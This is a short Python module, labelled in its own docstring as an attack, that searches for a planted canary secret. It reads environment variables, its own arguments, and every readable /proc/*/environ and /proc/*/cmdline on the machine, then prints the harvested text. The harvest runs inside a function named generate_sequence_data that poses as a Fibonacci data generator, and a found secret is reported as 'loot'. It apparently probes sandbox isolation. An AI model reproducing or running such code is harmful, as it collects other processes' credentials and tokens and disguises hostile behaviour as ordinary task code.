"""Attack: looks for the secret in environments and command lines."""

import glob
import os
import sys

import numpy as np


def attack():
    words = [repr(dict(os.environ)), repr(sys.argv), repr(getattr(sys, "orig_argv", ""))]
    for place in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
        try:
            words.append(open(place, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    print(" ".join(words)[-3000:])
    return ["found"] if any("@" + "CANARY@" in one or "canary-" in one for one in words) else []


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
